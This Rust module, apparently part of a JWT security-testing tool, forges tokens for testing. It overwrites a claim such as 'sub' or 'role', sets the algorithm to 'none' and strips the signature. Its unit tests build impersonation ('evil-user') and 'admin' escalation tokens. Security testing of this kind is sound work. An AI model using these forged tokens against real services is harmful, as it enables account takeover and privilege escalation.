//! Claim tampering.
//!
//! Overwrites a single payload claim (e.g. `sub` to impersonate another
//! user, `role` to escalate privileges) and strips the signature.

use serde::Serialize;
use serde_json::{Number, Value};
use tracing::debug;

use super::{Advisory, encode_unsigned};
use crate::core::codec::decode_token;
use crate::error::ProbeError;

pub const CLAIM_OVERRIDE_ADVISORY: Advisory = Advisory {
    expected: "401 Unauthorized",
    vulnerable_if: "Accepts modified claim",
};

/// Result of a claim override.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct ClaimOverride {
    pub claim: String,
    /// The claim's value before the override; `None` if it was not set.
    pub original: Option<Value>,
    /// The value written, after type coercion.
    pub value: Value,
    /// The unsigned, tampered token.
    pub token: String,
    pub advisory: Advisory,
}

/// Set `payload[claim]` to the coerced `raw_value` and strip the signature.
///
/// # Errors
///
/// Returns an error if `token` cannot be decoded.
pub fn override_claim(
    token: &str,
    claim: &str,
    raw_value: &str,
) -> Result<ClaimOverride, ProbeError> {
    let mut decoded = decode_token(token)?;
    let original = decoded.payload.get(claim).cloned();
    let value = coerce_claim_value(raw_value);
    debug!(claim, had_value = original.is_some(), "overriding claim");

    decoded.payload.insert(claim.to_string(), value.clone());

    Ok(ClaimOverride {
        claim: claim.to_string(),
        original,
        value,
        token: encode_unsigned(decoded)?,
        advisory: CLAIM_OVERRIDE_ADVISORY,
    })
}

/// Convert command-line text into a typed claim value.
///
/// Rules apply in order:
/// 1. all ASCII digits: integer of any size, kept exact (leading zeros
///    are dropped)
/// 2. `true` / `false`, any case: boolean
/// 3. starts with `[` or `{`: parsed as JSON, falling back to the raw text
/// 4. anything else: string
pub fn coerce_claim_value(raw: &str) -> Value {
    if !raw.is_empty() && raw.bytes().all(|b| b.is_ascii_digit()) {
        let digits = match raw.trim_start_matches('0') {
            "" => "0",
            rest => rest,
        };
        if let Ok(n) = serde_json::from_str::<Number>(digits) {
            return Value::Number(n);
        }
    }

    if raw.eq_ignore_ascii_case("true") {
        return Value::Bool(true);
    }
    if raw.eq_ignore_ascii_case("false") {
        return Value::Bool(false);
    }

    if raw.starts_with('[') || raw.starts_with('{') {
        if let Ok(parsed) = serde_json::from_str(raw) {
            return parsed;
        }
    }

    Value::String(raw.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::attacks::NONE_ALGORITHM;
    use crate::core::codec::{Claims, encode_token};
    use serde_json::json;

    // Header: {"alg":"HS256","typ":"JWT"}
    // Payload: {"sub":"1234567890","name":"Test User","iat":1516239022}
    const SAMPLE_TOKEN: &str = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.\
                                eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IlRlc3QgVXNlciIsImlhdCI6MTUxNjIzOTAyMn0.\
                                SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";

    #[test]
    fn test_coerce_digits_to_integer() {
        assert_eq!(coerce_claim_value("42"), json!(42));
        assert_eq!(coerce_claim_value("0"), json!(0));
    }

    #[test]
    fn test_coerce_leading_zeros_still_integer() {
        assert_eq!(coerce_claim_value("007"), json!(7));
    }

    #[test]
    fn test_coerce_huge_digit_string_stays_numeric() {
        let beyond_u64 = "123456789012345678901234567890".to_string();
        let beyond_f64 = "9".repeat(400);

        for digits in [beyond_u64, beyond_f64] {
            let value = coerce_claim_value(&digits);
            assert!(value.is_number(), "{digits} was not stored as a number");

            let mut payload = Claims::new();
            payload.insert("id".to_string(), value);
            let token = encode_token(&Claims::new(), &payload, "").unwrap();
            let reparsed = decode_token(&token).unwrap();
            assert_eq!(reparsed.payload["id"].to_string(), digits);
        }
    }

    #[test]
    fn test_coerce_all_zeros_is_zero() {
        assert_eq!(coerce_claim_value("000"), json!(0));
        assert_eq!(coerce_claim_value("000").to_string(), "0");
    }

    #[test]
    fn test_coerce_booleans_case_insensitively() {
        assert_eq!(coerce_claim_value("true"), json!(true));
        assert_eq!(coerce_claim_value("FALSE"), json!(false));
        assert_eq!(coerce_claim_value("True"), json!(true));
    }

    #[test]
    fn test_coerce_json_array_and_object() {
        assert_eq!(coerce_claim_value("[1,2]"), json!([1, 2]));
        assert_eq!(
            coerce_claim_value(r#"{"admin":true}"#),
            json!({"admin": true})
        );
    }

    #[test]
    fn test_coerce_bad_json_falls_back_to_string() {
        assert_eq!(coerce_claim_value("{bad"), json!("{bad"));
        assert_eq!(coerce_claim_value("[1,"), json!("[1,"));
    }

    #[test]
    fn test_coerce_plain_text_is_string() {
        assert_eq!(coerce_claim_value("admin"), json!("admin"));
        assert_eq!(coerce_claim_value("-5"), json!("-5"));
        assert_eq!(coerce_claim_value("1.5"), json!("1.5"));
        assert_eq!(coerce_claim_value(""), json!(""));
    }

    #[test]
    fn test_override_replaces_existing_claim() {
        let outcome = override_claim(SAMPLE_TOKEN, "sub", "evil-user").unwrap();
        assert_eq!(outcome.original, Some(json!("1234567890")));
        assert_eq!(outcome.value, json!("evil-user"));

        let reparsed = decode_token(&outcome.token).unwrap();
        assert_eq!(reparsed.payload["sub"], "evil-user");
        assert_eq!(reparsed.payload["name"], "Test User");
        assert_eq!(reparsed.header["alg"], NONE_ALGORITHM);
        assert_eq!(reparsed.signature, "");
    }

    #[test]
    fn test_override_adds_missing_claim() {
        let outcome = override_claim(SAMPLE_TOKEN, "role", "admin").unwrap();
        assert_eq!(outcome.original, None);

        let reparsed = decode_token(&outcome.token).unwrap();
        assert_eq!(reparsed.payload["role"], "admin");
    }

    #[test]
    fn test_override_stores_coerced_value() {
        let outcome = override_claim(SAMPLE_TOKEN, "exp", "9999999999").unwrap();
        let reparsed = decode_token(&outcome.token).unwrap();
        assert_eq!(reparsed.payload["exp"], json!(9_999_999_999u64));
    }

    #[test]
    fn test_override_rejects_malformed_token() {
        let err = override_claim("a.b", "sub", "x").unwrap_err();
        assert!(matches!(err, ProbeError::InvalidTokenFormat { parts: 2 }));
    }
}
